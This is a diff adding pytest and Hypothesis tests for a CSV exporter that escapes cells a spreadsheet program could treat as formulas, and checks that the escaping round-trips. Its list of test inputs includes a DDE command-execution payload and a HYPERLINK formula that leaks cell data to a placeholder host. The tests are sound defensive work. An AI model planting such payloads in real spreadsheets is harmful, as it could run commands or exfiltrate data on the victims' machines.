@@ -1,0 +1,98 @@
+"""CSV for spreadsheet programs: no text is a formula, numbers stay numbers, nothing is lost."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from annotate.formats.csv_rows import Table
+from annotate.formats.limits import Limits
+from annotate.formats.open_file import OpenFile
+from annotate.formats.spreadsheets import for_spreadsheets, harmless, original
+from annotate.formats.writing import csv_line
+
+SIGNS = st.text(alphabet="=+-@\t\r\n '\"＝\u200b\ufeff1.5eE;ab")
+
+
+@given(st.text() | SIGNS)
+def test_every_text_comes_back(text):
+    assert original(harmless(text)) == text
+
+
+@given(st.text() | SIGNS)
+def test_what_was_made_harmless_begins_with_an_apostrophe_and_nothing_else_changes(text):
+    assert harmless(text) in {text, f"'{text}"}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=1+1",
+        '=HYPERLINK("http://example.org/?"&A1)',
+        "+1+1",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\ttext",
+        "\rtext",
+        "\ntext",
+        "  =1+1",
+        '"=1+1"',
+        "'=1+1",
+        "“=1+1”",
+        "\u200b=1",
+        "\ufeff=1",
+        "\u00a0=1",
+        "＝1+1",
+        "＋1",
+        "－1+1",
+        "＠SUM(A1)",
+        "-",
+        "--",
+        "-1.5.2",
+        "+cmd|' /C calc'!A0",
+        "=1\n",
+        "-1\n",
+        "- a list",
+    ],
+)
+def test_what_a_program_could_take_for_a_formula(text):
+    assert harmless(text) == f"'{text}"
+
+
+@pytest.mark.parametrize(
+    "text", ["", "-1", "+2.5", "-1e-05", "-.5", "1+1", "a=b", "post-hoc, = 50 %", "2024-05-01", "'"]
+)
+def test_numbers_and_other_text_stay_as_they_are(text):
+    assert harmless(text) == text
+
+
+ROWS = st.lists(
+    st.tuples(*[st.text(st.characters(exclude_characters="\0")) | SIGNS] * 3).filter(
+        lambda row: any(row)
+    ),
+    max_size=5,
+)
+
+
+@given(ROWS)
+def test_a_file_comes_back_whatever_stands_in_it(tmp_path_factory, rows):
+    lines = list(for_spreadsheets(map(csv_line, [("a", "b", "c"), *rows])))
+    path = tmp_path_factory.mktemp("csv") / "some.csv"
+    path.write_text("".join(lines), encoding="utf-8", newline="")
+    table = Table(OpenFile(path, Limits()))
+    header = table.header(["a", "b", "c"], only=True)
+    found = [tuple(row) for _, row in table.rows(header)]  # type: ignore[misc]
+    assert found == rows
+    for row in csv.reader(io.StringIO("".join(lines).removeprefix("\ufeff"), newline="")):
+        assert [harmless(original(cell)) for cell in row] == row
+        assert len(row) == 4
+
+
+def test_without_the_column_apostrophes_are_the_texts_own(tmp_path):
+    path = tmp_path / "some.csv"
+    path.write_text("a,b\n'=1,x\n", encoding="utf-8")
+    table = Table(OpenFile(path, Limits()))
+    assert [row for _, row in table.rows(table.header(["a", "b"]))] == [["'=1", "x"]]  # type: ignore[misc]
